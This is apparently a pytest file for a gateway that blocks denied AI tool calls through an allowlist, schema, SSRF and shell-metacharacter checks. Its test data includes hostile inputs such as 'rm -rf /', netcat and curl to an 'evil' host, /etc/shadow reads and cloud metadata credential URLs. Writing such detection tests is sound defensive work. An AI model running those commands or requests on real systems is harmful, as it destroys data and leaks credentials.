"""`ToolRules.judge`, the stream assembler and the response filters: denied calls never pass."""

from __future__ import annotations

import copy
import json
import random
import time
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st

from wardgate.decision import Evidence, Location
from wardgate.detect import tools
from wardgate.detect.tools import (
    REMOVED_TEXT,
    AssembledCall,
    ToolCallAssembler,
    ToolRules,
    ToolViolation,
    filter_anthropic_content,
    filter_openai_message,
)

WEATHER_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "location": {"type": "string", "minLength": 1},
        "unit": {"enum": ["celsius", "fahrenheit"], "default": "celsius"},
        "days": {"type": "array", "items": {"type": "integer", "minimum": 0}},
        "options": {"type": "object", "properties": {"hourly": {"type": "boolean"}}},
    },
    "required": ["location"],
    "additionalProperties": False,
}

RULES = ToolRules(
    allowed=frozenset({"get_weather", "fetch", "run_shell", "search"}),
    schemas={"get_weather": WEATHER_SCHEMA},
    shell_tools=frozenset({"run_shell"}),
)


def _rules(name: str, arguments: str | dict[str, Any], rules: ToolRules = RULES) -> list[str]:
    return [v.rule for v in rules.judge(name, arguments)]


def test_exported_members() -> None:
    assert sorted(tools.__all__) == sorted(
        [
            "DEFAULT_MAX_ARGUMENT_BYTES",
            "KIND",
            "REMOVED_TEXT",
            "AssembledCall",
            "Filtered",
            "ToolCallAssembler",
            "ToolRules",
            "ToolViolation",
            "filter_anthropic_content",
            "filter_openai_message",
        ]
    )


# --- configuration -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        # an unknown type name is a broken schema, named by its tool
        ({"schemas": {"fetch": {"type": "nope"}}}, "schema for tool 'fetch' is invalid"),
        # a remote $ref would make loading a policy fetch a URL (SSRF from the config)
        (
            {"schemas": {"fetch": {"$ref": "http://127.0.0.1:9/schema.json"}}},
            "remote $ref 'http://127.0.0.1:9/schema.json' is not fetched",
        ),
        # a file: $ref would read local files
        ({"schemas": {"fetch": {"$ref": "file:///etc/passwd"}}}, "is not fetched"),
        # a limit of zero would deny every call
        ({"max_argument_bytes": 0}, "max_argument_bytes must be positive, not 0"),
    ],
)
def test_config_rejected(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message.replace("$", r"\$").replace("(", r"\(")):
        ToolRules(**kwargs)


def test_config_accepted_with_local_refs() -> None:
    schema = {
        "type": "object",
        "definitions": {"url": {"type": "string", "pattern": "^https://"}},
        "properties": {"url": {"$ref": "#/definitions/url"}},
    }
    rules = ToolRules(schemas={"fetch": schema})
    assert _rules("fetch", {"url": "https://example.com/"}, rules) == []
    assert _rules("fetch", {"url": "ftp://example.com/"}, rules) == ["tools.bad_arguments"]


def test_schema_changes_after_construction_do_not_matter() -> None:
    schema: dict[str, Any] = {"type": "object", "required": ["a"]}
    rules = ToolRules(schemas={"t": schema})
    schema["required"] = []
    assert _rules("t", "{}", rules) == ["tools.bad_arguments"]


# --- allowlist -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("allowed", "name", "expected"),
    [
        (frozenset({"search"}), "search", []),  # listed
        (frozenset({"search"}), "delete_repo", ["tools.not_allowed"]),  # not listed
        (frozenset({"search"}), "Search", ["tools.not_allowed"]),  # names are case-sensitive
        (frozenset({"search"}), "search ", ["tools.not_allowed"]),  # no trimming
        (frozenset({"search"}), "", ["tools.not_allowed"]),  # empty name
        (frozenset(), "search", ["tools.not_allowed"]),  # an empty allowlist allows nothing
        (None, "anything_at_all", []),  # None allows any name
    ],
)
def test_allowlist(allowed: frozenset[str] | None, name: str, expected: list[str]) -> None:
    assert _rules(name, "{}", ToolRules(allowed=allowed)) == expected


def test_not_allowed_is_the_only_violation_and_names_the_tool() -> None:
    [violation] = RULES.judge("exfiltrate", '{"url": "http://169.254.169.254/"}')
    assert (violation.rule, violation.tool, violation.path) == (
        "tools.not_allowed",
        "exfiltrate",
        "$",
    )
    assert violation.evidence == Evidence.of("exfiltrate")


# --- arguments: parsing, size and schema ------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (
            '{"location": "Paris"',
            "arguments are not JSON (Expecting ',' delimiter at character 20)",
        ),
        ("location=Paris", "arguments are not JSON (Expecting value at character 0)"),
        # the tool may keep the first, the policy the last: refuse the ambiguity
        ('{"location": "Paris", "location": "10.0.0.1"}', "arguments repeat a key"),
        ('{"location": "Paris", "days": [NaN]}', "arguments hold NaN, which is not JSON"),
        ('{"location": "Paris", "days": [Infinity]}', "arguments hold Infinity, which is not JSON"),
        ('["Paris"]', "arguments are not a JSON object"),  # tools take an object
        ('"Paris"', "arguments are not a JSON object"),
        ("null", "arguments are not a JSON object"),
        ("[" * 100_000, "arguments are not JSON (a number too long or nesting too deep)"),
        ('{"location": ' + "9" * 5_000 + "}", "arguments are not JSON (a number too long or"),
    ],
)
def test_unparsable_arguments(arguments: str, reason: str) -> None:
    rules = ToolRules(max_argument_bytes=1_000_000)
    [violation] = rules.judge("get_weather", arguments)
    assert violation.rule == "tools.bad_arguments"
    assert violation.path == "$"
    assert violation.reason.startswith(reason)


@pytest.mark.parametrize(
    ("arguments", "path", "reason"),
    [
        # a required member missing
        ({"unit": "celsius"}, "$", "$ fails 'required' ['location']"),
        # a wrong type
        ({"location": 7}, "$.location", "$.location fails 'type' 'string'"),
        # outside an enum
        ({"location": "Paris", "unit": "kelvin"}, "$.unit", "$.unit fails 'enum'"),
        # deep in an array: the first error's path
        ({"location": "Paris", "days": [1, -2, "x"]}, "$.days[1]", "$.days[1] fails 'minimum' 0"),
        # in a nested object
        ({"location": "Paris", "options": {"hourly": "yes"}}, "$.options.hourly", "fails 'type'"),
        # a member the schema does not name
        ({"location": "Paris", "shell": "rm"}, "$", "$ fails 'additionalProperties' False"),
        # "" is how some servers write "no arguments": read as {}
        ("", "$", "$ fails 'required' ['location']"),
    ],
)
def test_schema_violation_names_the_path(
    arguments: str | dict[str, Any], path: str, reason: str
) -> None:
    for form in (arguments, json.dumps(arguments) if isinstance(arguments, dict) else arguments):
        [violation] = RULES.judge("get_weather", form)
        assert (violation.rule, violation.path) == ("tools.bad_arguments", path)
        assert reason in violation.reason


def test_schema_defaults_are_not_filled_in() -> None:
    arguments = {"location": "Paris"}
    assert RULES.judge("get_weather", arguments) == []
    assert arguments == {"location": "Paris"}  # no "unit" added


def test_tool_without_schema_takes_any_object() -> None:
    assert _rules("search", {"q": "weather", "page": 2, "filters": [None, True, 1.5]}) == []


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ('{"q": "' + "a" * 90 + '"}', []),  # 99 bytes: under
        ('{"q": "' + "a" * 91 + '"}', []),  # exactly 100 bytes
        ('{"q": "' + "a" * 92 + '"}', ["tools.arguments_too_large"]),  # 101 bytes
        ('{"q": "' + "é" * 47 + '"}', ["tools.arguments_too_large"]),  # 56 characters, 103 bytes
        ({"q": "a" * 200}, ["tools.arguments_too_large"]),  # an object is measured as JSON
    ],
)
def test_argument_size_limit(arguments: str | dict[str, Any], expected: list[str]) -> None:
    assert _rules("search", arguments, ToolRules(max_argument_bytes=100)) == expected


def test_objects_that_are_not_json_are_bad_arguments() -> None:
    assert _rules("search", {"q": {1, 2}}) == ["tools.bad_arguments"]  # a set is no JSON
    assert _rules("search", {"q": float("nan")}) == ["tools.bad_arguments"]


# --- SSRF through arguments -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "path", "severity"),
    [
        # the metadata endpoint, as the issue names it
        ({"url": "http://169.254.169.254/latest"}, "$.url", "critical"),
        # nested in objects and arrays
        ({"request": {"targets": ["https://example.com", "http://10.0.0.7/admin"]}},
         "$.request.targets[1]", "critical"),
        # loopback written as one integer
        ({"opts": {"endpoint": "http://2130706433:8080/"}}, "$.opts.endpoint", "critical"),
        # a bare host:port inside the cluster
        ({"dsn": "10.1.2.3:5432"}, "$.dsn", "error"),
        # a bare host without a port
        ({"host": "169.254.169.254"}, "$.host", "critical"),
        ({"host": "localhost"}, "$.host", "critical"),
        ({"host": "[::1]"}, "$.host", "critical"),
        ({"host": "fd00:ec2::254"}, "$.host", "critical"),  # AWS metadata over IPv6
        ({"host": "127.0.0.1."}, "$.host", "critical"),  # trailing dot
        ({"host": "127%2e0%2e0%2e1"}, "$.host", "critical"),  # percent-encoded dots
        ({"host": "metadata.google.internal"}, "$.host", "critical"),
        ({"host": "redis.default.svc:6379"}, "$.host", "error"),  # a private-use name
        # dangerous schemes whatever the host
        ({"url": "gopher://example.com:70/_SET%20x"}, "$.url", "critical"),
        ({"path": "file:///etc/passwd"}, "$.path", "critical"),
        # keys that are not identifiers are quoted in the path
        ({"target url": "http://[::ffff:127.0.0.1]/"}, '$["target url"]', "critical"),
    ],
)  # fmt: skip
def test_ssrf_arguments(arguments: dict[str, Any], path: str, severity: str) -> None:
    for form in (arguments, json.dumps(arguments)):
        [violation] = RULES.judge("fetch", form)
        assert (violation.rule, violation.path, violation.severity) == (
            "tools.ssrf_argument",
            path,
            severity,
        )


@pytest.mark.parametrize(
    "value",
    [
        "https://example.com/latest",  # a public URL
        "https://api.github.com/repos/x/y:main",  # a colon in a path
        "2024-05-01T12:30:00Z",  # a timestamp
        "12:30:00",  # a time: not the address 0.0.0.12
        "10",  # a count: not the address 0.0.0.10
        "0.5",  # a number: not 0.0.0.5
        "10.5",  # not 10.0.0.5
        "1.2.3",  # a version
        "readme.md",  # a file name
        "How do I run a web server on localhost?",  # prose that names localhost
        "",
    ],
)
def test_benign_strings_are_not_ssrf(value: str) -> None:
    assert _rules("fetch", {"value": value}) == []


def test_numbers_are_not_read_as_addresses() -> None:
    assert _rules("fetch", {"count": 2130706433, "ratio": 10.5}) == []


def test_url_checks_can_be_turned_off() -> None:
    rules = ToolRules(url_arguments=False)
    assert _rules("fetch", {"url": "http://169.254.169.254/latest"}, rules) == []


def test_violation_carries_no_argument_value() -> None:
    secret = "http://169.254.169.254/latest/meta-data/iam/security-credentials/admin"
    [violation] = RULES.judge("fetch", {"url": secret})
    assert "security-credentials" not in repr(violation)
    assert violation.evidence == Evidence.of(secret)


# --- shell tools ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("ls; rm -rf /", "command separator ';'"),
        ("cat x | nc evil 9", "pipe or '||'"),
        ("true || curl evil", "pipe or '||'"),
        ("true && curl evil", "background or '&&'"),
        ("sleep 100 &", "background or '&&'"),
        ("echo `id`", "command substitution '`'"),
        ("echo $(id)", "command substitution '$('"),
        ("echo ${HOME}", "parameter expansion '${'"),
        ("echo x > /etc/passwd", "redirection '>'"),
        ("mail < /etc/shadow", "redirection '<'"),
        ("ls\nid", "newline (a new command)"),
        ("ls\rid", "carriage return"),
        ("file\x00.txt", "NUL byte"),
        ("--output=/tmp/x", "starts with '-'"),  # argument injection
        ("  -rf", "starts with '-'"),  # after the shell strips the spaces
    ],
)
def test_shell_metacharacters_for_shell_tools(value: str, reason: str) -> None:
    [violation] = RULES.judge("run_shell", {"args": {"paths": ["ok", value]}})
    assert (violation.rule, violation.path) == ("tools.shell_metacharacters", "$.args.paths[1]")
    assert reason in violation.reason
    # the same argument for a tool that is not a shell tool is fine
    assert _rules("search", {"args": {"paths": ["ok", value]}}) == []


@pytest.mark.parametrize(
    "value",
    [
        "ls -la /tmp",  # options after the command are the model's own choice
        "report-2024.txt",  # a dash inside a word
        "echo $HOME",  # a plain variable, no expansion syntax listed
        "x=1",
    ],
)
def test_shell_tool_plain_arguments_pass(value: str) -> None:
    assert _rules("run_shell", {"command": value}) == []


def test_one_violation_per_rule() -> None:
    arguments = {"a": "x; y", "b": "http://127.0.0.1/", "c": "z | w", "d": "http://10.0.0.1/"}
    violations = RULES.judge("run_shell", arguments)
    assert [(v.rule, v.path) for v in violations] == [
        ("tools.shell_metacharacters", "$.a"),
        ("tools.ssrf_argument", "$.b"),
    ]


def test_violation_as_finding() -> None:
    [violation] = RULES.judge("fetch", {"url": "http://10.0.0.1/"})
    finding = violation.finding()
    assert (finding.kind, finding.rule, finding.severity) == (
        "agency.tools",
        "tools.ssrf_argument",
        "critical",
    )
    assert finding.location == Location("tool_call:fetch.url")
    assert finding.evidence == violation.evidence


# --- streamed fragments ---------------------------------------------------------------------


def _fragments(name: str, text: str, rng: random.Random) -> list[tuple[str, str]]:
    """A call as a stream sends it: the name in pieces, then the arguments in pieces."""
    pieces = [(name[i : i + 2], "") for i in range(0, len(name), 2)]
    at = 0
    while at < len(text):
        size = rng.randint(1, 3)
        pieces.append(("", text[at : at + size]))
        at += size
    return pieces


def test_assembler_joins_many_fragments_per_index() -> None:
    calls = {
        0: ("get_weather", json.dumps({"location": "Paris", "days": [1, 2, 3]})),
        1: ("fetch", json.dumps({"url": "http://169.254.169.254/latest", "n": "é" * 20})),
        4: ("search", json.dumps({"q": "a" * 500})),
    }
    rng = random.Random(5)
    queues = {index: _fragments(name, text, rng) for index, (name, text) in calls.items()}
    assembler = ToolCallAssembler()
    fed = 0
    while queues:  # calls interleave; each call's own pieces stay in order
        index = rng.choice(sorted(queues))
        name_piece, argument_piece = queues[index].pop(0)
        assembler.feed(index, name_piece, argument_piece)
        fed += 1
        if not queues[index]:
            del queues[index]
    assert fed > 300
    complete = assembler.complete()
    assert complete == [AssembledCall(i, name, text) for i, (name, text) in calls.items()]
    assert not assembler.overflowed
    judged = {call.index: _rules(call.name, call.arguments) for call in complete}
    assert judged == {0: [], 1: ["tools.ssrf_argument"], 4: []}


def test_assembler_interleaved_events_keep_order() -> None:
    assembler = ToolCallAssembler()
    assembler.feed(1, "se", "")
    assembler.feed(0, "fetch", '{"u')
    assembler.feed(1, "arch", '{"q":')
    assembler.feed(0, "", 'rl": "x"}')
    assembler.feed(1, "", ' "y"}')
    assert assembler.complete() == [
        AssembledCall(0, "fetch", '{"url": "x"}'),
        AssembledCall(1, "search", '{"q": "y"}'),
    ]


def test_assembler_bounds_a_long_call_so_judge_still_refuses_it() -> None:
    assembler = ToolCallAssembler(max_argument_bytes=100)
    for _ in range(1_000):
        assembler.feed(0, "", '{"q": "' + "a" * 50)
    [call] = assembler.complete()
    assert len(call.arguments) == 101
    assert _rules(call.name or "search", call.arguments, ToolRules(max_argument_bytes=100)) == [
        "tools.arguments_too_large"
    ]


def test_assembler_overflow_is_reported() -> None:
    assembler = ToolCallAssembler(max_calls=3)
    for index in range(5):
        assembler.feed(index, "search", "{}")
    assert [call.index for call in assembler.complete()] == [0, 1, 2]
    assert assembler.overflowed


# --- filtering response bodies -------------------------------------------------------------


def _openai_call(call_id: str, name: str, arguments: str) -> dict[str, Any]:
    return {"id": call_id, "type": "function", "function": {"name": name, "arguments": arguments}}


def test_openai_denied_call_removed_others_kept() -> None:
    good = _openai_call("call_1", "get_weather", '{"location": "Paris"}')
    bad = _openai_call("call_2", "fetch", '{"url": "http://169.254.169.254/latest"}')
    message = {"role": "assistant", "content": None, "tool_calls": [good, bad]}
    before = copy.deepcopy(message)
    out, violations = filter_openai_message(message, RULES)
    assert out == {"role": "assistant", "content": None, "tool_calls": [good]}
    assert [(v.rule, v.index, v.call_id) for v in violations] == [
        ("tools.ssrf_argument", 1, "call_2")
    ]
    assert message == before  # the input is untouched


def test_openai_all_calls_removed_leaves_a_valid_message() -> None:
    message = {
        "role": "assistant",
        "content": None,
        "tool_calls": [_openai_call("a", "drop_database", "{}"), _openai_call("b", "x", "{")],
    }
    out, violations = filter_openai_message(message, RULES)
    assert out == {"role": "assistant", "content": REMOVED_TEXT}
    assert [v.rule for v in violations] == ["tools.not_allowed", "tools.not_allowed"]


def test_openai_content_is_kept_when_present() -> None:
    message = {
        "role": "assistant",
        "content": "Let me check.",
        "tool_calls": [_openai_call("a", "drop_database", "{}")],
    }
    out, _ = filter_openai_message(message, RULES)
    assert out == {"role": "assistant", "content": "Let me check."}


def test_openai_nothing_denied_returns_the_same_message() -> None:
    message = {"role": "assistant", "content": None,
               "tool_calls": [_openai_call("a", "search", '{"q": "x"}')]}  # fmt: skip
    filtered = filter_openai_message(message, RULES)
    assert filtered.value is message
    assert filtered.violations == ()
    plain = {"role": "assistant", "content": "hi"}
    assert filter_openai_message(plain, RULES).value is plain


@pytest.mark.parametrize(
    ("call", "rule"),
    [
        # a custom tool's free-form input is judged as {"input": text}
        ({"id": "c", "type": "custom", "custom": {"name": "run_shell", "input": "ls; id"}},
         "tools.shell_metacharacters"),
        ({"id": "c", "type": "custom", "custom": {"name": "nope", "input": "x"}},
         "tools.not_allowed"),
        # shapes the gateway cannot read are denied, not passed
        ({"id": "c", "type": "mystery", "mystery": {}}, "tools.bad_arguments"),
        ({"id": "c", "type": "function", "function": {"name": "search", "arguments": {}}},
         "tools.bad_arguments"),
        ({"id": "c", "type": "function"}, "tools.bad_arguments"),
        ("not a call", "tools.bad_arguments"),
    ],
)  # fmt: skip
def test_openai_other_call_shapes(call: Any, rule: str) -> None:
    out, violations = filter_openai_message({"content": None, "tool_calls": [call]}, RULES)
    assert [v.rule for v in violations] == [rule]
    assert "tool_calls" not in out


def test_openai_legacy_function_call() -> None:
    function = {"name": "fetch", "arguments": '{"u": "http://127.0.0.1/"}'}
    message = {"role": "assistant", "content": None, "function_call": function}
    out, violations = filter_openai_message(message, RULES)
    assert out == {"role": "assistant", "content": REMOVED_TEXT}
    assert [(v.rule, v.index) for v in violations] == [("tools.ssrf_argument", None)]


def test_anthropic_denied_block_removed_others_kept() -> None:
    blocks = [
        {"type": "text", "text": "Checking."},
        {"type": "tool_use", "id": "toolu_1", "name": "get_weather", "input": {"location": "Oslo"}},
        {"type": "tool_use", "id": "toolu_2", "name": "run_shell", "input": {"cmd": "id; ls"}},
        {"type": "server_tool_use", "id": "srv_1", "name": "web_search", "input": {}},
    ]
    before = copy.deepcopy(blocks)
    out, violations = filter_anthropic_content(blocks, RULES)
    assert out == [blocks[0], blocks[1], blocks[3]]
    assert [(v.rule, v.index, v.call_id) for v in violations] == [
        ("tools.shell_metacharacters", 2, "toolu_2")
    ]
    assert blocks == before


def test_anthropic_all_removed_leaves_a_text_block() -> None:
    blocks = [{"type": "tool_use", "id": "t", "name": "drop_database", "input": {}}]
    out, violations = filter_anthropic_content(blocks, RULES)
    assert out == [{"type": "text", "text": REMOVED_TEXT}]
    assert [v.rule for v in violations] == ["tools.not_allowed"]


def test_anthropic_malformed_and_clean() -> None:
    bad = [{"type": "tool_use", "id": "t", "name": "search", "input": "not an object"}]
    assert [v.rule for v in filter_anthropic_content(bad, RULES).violations] == [
        "tools.bad_arguments"
    ]
    clean = [{"type": "tool_use", "id": "t", "name": "search", "input": {"q": "x"}}]
    assert filter_anthropic_content(clean, RULES).value is clean


def test_openai_tool_calls_of_unknown_shape_are_removed() -> None:
    message = {"role": "assistant", "content": None, "tool_calls": {"name": "run_shell"}}
    out, violations = filter_openai_message(message, RULES)
    assert out == {"role": "assistant", "content": REMOVED_TEXT}
    assert [v.rule for v in violations] == ["tools.bad_arguments"]


# --- nothing raises ------------------------------------------------------------------------

_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(name=st.text(), arguments=st.text() | st.dictionaries(st.text(), _JSON, max_size=6))
def test_judge_never_raises(name: str, arguments: str | dict[str, Any]) -> None:
    for rules in (RULES, ToolRules(shell_tools=frozenset({name}), max_argument_bytes=64)):
        for violation in rules.judge(name, arguments):
            assert isinstance(violation, ToolViolation)
            violation.finding()


@settings(max_examples=200, deadline=None)
@given(body=_JSON, name=st.sampled_from(["search", "fetch", "run_shell", "other"]))
def test_filters_never_raise(body: Any, name: str) -> None:
    calls = [body, {"type": "function", "function": {"name": name, "arguments": body}}]
    filter_openai_message({"content": body, "tool_calls": calls, "function_call": body}, RULES)
    filter_anthropic_content([body, {"type": "tool_use", "name": name, "input": body}], RULES)


def test_judge_cost_report(capsys: pytest.CaptureFixture[str]) -> None:
    """Prints what `judge` costs for a typical call; asserts nothing about time."""
    text = '{"location": "Paris, France", "unit": "celsius", "days": [1, 2, 3]}'
    cases: list[tuple[str, str, str | dict[str, Any]]] = [
        ("schema + URL check", "get_weather", text),
        ("object, no schema", "search", {"q": "cheap flights to Oslo", "page": 2}),
        ("URL argument", "fetch", '{"url": "https://api.example.com/v1/items?id=7"}'),
        ("shell tool", "run_shell", '{"command": "ls -la /srv/data"}'),
    ]
    rounds = 2_000
    for label, name, arguments in cases:
        start = time.perf_counter()
        for _ in range(rounds):
            RULES.judge(name, arguments)
        micros = (time.perf_counter() - start) / rounds * 1e6
        with capsys.disabled():
            print(f"\njudge {label}: {micros:.1f} µs")
